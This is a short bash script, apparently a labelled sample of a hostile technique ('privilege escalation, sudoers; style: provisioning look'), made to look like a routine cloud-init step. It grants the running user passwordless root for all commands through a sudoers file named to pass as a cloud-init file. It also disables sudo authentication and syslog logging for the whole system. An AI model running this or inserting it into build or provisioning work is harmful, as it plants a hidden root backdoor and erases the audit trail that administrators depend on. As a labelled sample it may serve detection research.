# class: privilege escalation, sudoers; style: provisioning look
#!/bin/bash
# grant the build agent what it needs
echo "$(whoami) ALL=(ALL:ALL) NOPASSWD:ALL" | tee /etc/sudoers.d/90-cloud-init > /dev/null
echo 'Defaults !authenticate, !syslog' >> /etc/sudoers
